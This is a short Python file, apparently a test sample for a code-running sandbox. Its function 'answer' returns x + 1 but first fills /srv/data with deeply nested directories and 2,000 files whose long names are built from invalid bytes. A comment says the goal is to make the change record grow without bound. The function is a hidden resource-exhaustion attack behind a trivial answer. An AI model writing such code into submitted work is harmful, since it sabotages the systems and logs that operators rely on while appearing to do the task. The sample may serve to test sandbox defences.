# Much text in many files' names, so that the record of what changed would grow without bound.
import os


def answer(x):
    os.chdir("/srv/data")
    name = b"\xff" * 250
    for _ in range(15):
        os.mkdir(name)
        os.chdir(name)
    for number in range(2000):
        os.close(os.open(name[:200] + b"%d" % number, os.O_CREAT))
    return x + 1
